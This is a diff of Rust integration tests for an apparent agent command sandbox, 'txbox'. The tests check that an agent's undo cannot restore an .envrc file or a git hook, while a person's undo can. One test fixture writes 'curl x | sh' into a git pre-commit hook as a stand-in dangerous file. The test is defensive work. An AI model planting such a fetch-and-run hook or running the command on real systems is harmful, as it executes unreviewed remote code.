@@ -53,6 +53,8 @@ fn serve_with(s: &Scratch, workspaces: &[&Path], state_dir: Option<&Path>) -> Se
         }
         let child = cmd
             .env_remove("TXBOX_TOKEN")
+            // Undo data must not yield to a shared disk running low during the undo tests.
+            .env("TXBOX_RETAIN_MIN_FREE", "0")
             .stdin(Stdio::null())
             .stdout(Stdio::null())
             .stderr(Stdio::null())
@@ -206,6 +208,86 @@ fn http_run_commits_rolls_back_and_denies() {
     assert_eq!(v.as_array().map(Vec::len), Some(2), "{v}");
 }
 
+/// An agent's undo puts nothing back that a commit of the same change would have held for a
+/// person (a shell-environment file, a git hook inside a directory put back whole): it is
+/// refused (denied, nothing changed); a person's undo on the command line is not, and other
+/// undos of the agent's go through.
+#[test]
+fn an_agents_undo_is_judged_by_the_commit_rules() {
+    let s = Scratch::new("undo-judged");
+    native(As::Me, &s.ws, "echo 'use nix' > .envrc; mkdir -p lib/.git/hooks; echo 'curl x | sh' > lib/.git/hooks/pre-commit; echo ok > plain");
+    let srv = serve_with(&s, &[&s.ws], Some(&s.state));
+    let ws = s.ws.to_str().unwrap().to_string();
+    let person = |args: &[&str]| {
+        let out = txbox(As::Me, &s, args);
+        let v: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|_| panic!("{}", describe(&out)));
+        v
+    };
+    let rm = |what: &str| {
+        let v = person(&["--json", "run", "-C", &ws, "-c", what]);
+        assert_eq!(v["outcome"], "committed", "{v}");
+        v["tx"].as_str().unwrap().to_string()
+    };
+    // A person removes the file direnv would run; the agent may not put it back.
+    let envrc_tx = rm("rm .envrc");
+    let (st, u) = http(srv.port, "POST", &format!("/v1/tx/{envrc_tx}/undo"), auth(), None);
+    assert_eq!((st, u["outcome"].as_str(), u["exit_code"].as_i64()), (200, Some("denied"), Some(126)), "{u}");
+    assert!(u["error"].as_str().unwrap().contains("commit.shell-environment"), "{u}");
+    assert!(!s.ws.join(".envrc").exists(), "a refused undo changed something");
+    // A hook inside a directory put back whole is judged too.
+    let git = rm("rm -rf lib/.git");
+    let (st, u) = http(srv.port, "POST", &format!("/v1/tx/{git}/undo"), auth(), None);
+    assert_eq!((st, u["outcome"].as_str()), (200, Some("denied")), "{u}");
+    assert!(!s.ws.join("lib/.git").exists());
+    // Anything else the agent undoes as before.
+    let plain = rm("rm plain");
+    let (st, u) = http(srv.port, "POST", &format!("/v1/tx/{plain}/undo"), auth(), None);
+    assert_eq!((st, u["outcome"].as_str()), (200, Some("committed")), "{u}");
+    assert!(s.ws.join("plain").exists());
+    // The person may.
+    let v = person(&["--json", "undo", "-C", &ws, &git]);
+    assert_eq!(v["outcome"], "committed", "{v}");
+    assert!(s.ws.join("lib/.git/hooks/pre-commit").exists());
+    let v = person(&["--json", "undo", "-C", &ws, &envrc_tx]);
+    assert_eq!(v["outcome"], "committed", "{v}");
+    assert_eq!(std::fs::read_to_string(s.ws.join(".envrc")).unwrap(), "use nix\n");
+}
+
+#[test]
+fn http_undo_answers_with_the_run_result() {
+    let s = Scratch::new("http-undo");
+    let srv = serve_with(&s, &[&s.ws], Some(&s.state));
+    let (_, v) = http(srv.port, "POST", "/v1/run", auth(), Some(&json!({"command": "echo hi > a.txt"})));
+    let a = v["tx"].as_str().unwrap().to_string();
+    let (st, u) = http(srv.port, "POST", &format!("/v1/tx/{a}/undo"), auth(), None);
+    assert_eq!(st, 200, "{u}");
+    assert_eq!((u["outcome"].as_str(), u["undone"].clone()), (Some("committed"), json!([a])), "{u}");
+    assert_eq!(u["changes"]["deleted"], json!(["a.txt"]), "{u}");
+    assert!(!s.ws.join("a.txt").exists());
+    // A conflict is 409 and changes nothing.
+    let (_, v) = http(srv.port, "POST", "/v1/run", auth(), Some(&json!({"command": "echo 1 > c.txt"})));
+    let c = v["tx"].as_str().unwrap().to_string();
+    std::fs::write(s.ws.join("c.txt"), "edited outside\n").unwrap();
+    let (st, u) = http(srv.port, "POST", &format!("/v1/tx/{c}/undo"), auth(), Some(&json!({})));
+    assert_eq!(st, 409, "{u}");
+    assert_eq!(u["conflicts"], json!(["c.txt"]), "{u}");
+    assert_eq!(std::fs::read_to_string(s.ws.join("c.txt")).unwrap(), "edited outside\n");
+    // `to`: every commit after one.
+    let (_, v) = http(srv.port, "POST", "/v1/run", auth(), Some(&json!({"command": "echo 2 > d.txt"})));
+    let d = v["tx"].as_str().unwrap().to_string();
+    http(srv.port, "POST", "/v1/run", auth(), Some(&json!({"command": "echo 3 > e.txt; echo 4 > f.txt"})));
+    let (st, u) = http(srv.port, "POST", &format!("/v1/tx/{d}/undo"), auth(), Some(&json!({"to": true})));
+    assert_eq!(st, 200, "{u}");
+    assert!(s.ws.join("d.txt").exists() && !s.ws.join("e.txt").exists(), "{u}");
+    // Bad ids and bodies; the token.
+    let (st, _) = http(srv.port, "POST", "/v1/tx/nothex/undo", auth(), None);
+    assert_eq!(st, 404);
+    let (st, _) = http(srv.port, "POST", &format!("/v1/tx/{d}/undo"), auth(), Some(&json!({"bogus": 1})));
+    assert_eq!(st, 400);
+    let (st, _) = http(srv.port, "POST", &format!("/v1/tx/{d}/undo"), None, None);
+    assert_eq!(st, 401);
+}
+
 #[test]
 fn http_session_flow_and_conflict() {
     let s = Scratch::new("http-tx");
@@ -322,7 +404,7 @@ fn http_mcp_behind_the_token() {
     let (st, v) = mcp_http(srv.port, auth(), &json!({"jsonrpc": "2.0", "id": 2, "method": "tools/list"}));
     assert_eq!(st, 200, "{v}");
     let names: Vec<&str> = v["result"]["tools"].as_array().unwrap().iter().filter_map(|t| t["name"].as_str()).collect();
-    assert_eq!(names, ["run", "begin", "exec", "diff", "commit", "rollback", "list", "log"]);
+    assert_eq!(names, ["run", "begin", "exec", "diff", "commit", "rollback", "undo", "list", "log"]);
 
     let payload = |v: &Value| -> Value {
         serde_json::from_str(v["result"]["content"][1]["text"].as_str().unwrap_or("null")).unwrap()
@@ -378,6 +460,7 @@ impl Mcp {
             .arg("mcp")
             .arg("-C")
             .arg(&s.ws)
+            .env("TXBOX_RETAIN_MIN_FREE", "0")
             .stdin(Stdio::piped())
             .stdout(Stdio::piped())
             .stderr(Stdio::null())
@@ -455,7 +538,7 @@ fn mcp_lists_tools_and_runs_transactions() {
     let list = m.request("tools/list", json!({}));
     let tools = list["result"]["tools"].as_array().unwrap();
     let names: Vec<&str> = tools.iter().filter_map(|t| t["name"].as_str()).collect();
-    assert_eq!(names, ["run", "begin", "exec", "diff", "commit", "rollback", "list", "log"]);
+    assert_eq!(names, ["run", "begin", "exec", "diff", "commit", "rollback", "undo", "list", "log"]);
     for t in tools {
         assert_eq!(t["inputSchema"]["type"], "object", "{t}");
         assert!(t["description"].as_str().unwrap().len() > 40, "{t}");
@@ -497,6 +580,19 @@ fn mcp_lists_tools_and_runs_transactions() {
     let (_, _, r) = m.call("commit", json!({"tx": tx}));
     assert_eq!(r["outcome"], "committed", "{r}");
     assert!(s.ws.join("step.txt").exists());
+
+    // Undo: the last commit (that session), then the undo itself (a redo).
+    let (err, summary, u) = m.call("undo", json!({}));
+    assert!(!err, "{summary}");
+    assert_eq!((u["outcome"].as_str(), u["undone"].clone()), (Some("committed"), json!([tx])), "{u}");
+    assert!(!s.ws.join("step.txt").exists());
+    let (_, _, r) = m.call("undo", json!({"tx": u["tx"]}));
+    assert_eq!(r["outcome"], "committed", "{r}");
+    assert!(s.ws.join("step.txt").exists());
+    let (err, _, r) = m.call("undo", json!({"tx": tx}));
+    assert!(!err);
+    assert_eq!(r["outcome"], "error", "an undone transaction is not undone twice: {r}");
+    assert!(r["error"].as_str().unwrap().contains("was undone by"), "{r}");
 
     // Errors are tool errors, not protocol errors; unknown tools are protocol errors.
     let (err, summary, _) = m.call("diff", json!({"tx": "0123456789abcdef"}));
